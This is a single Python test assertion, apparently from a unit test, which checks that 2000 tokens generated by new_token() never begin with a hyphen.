    assert not any(new_token().startswith("-") for _ in range(2000))
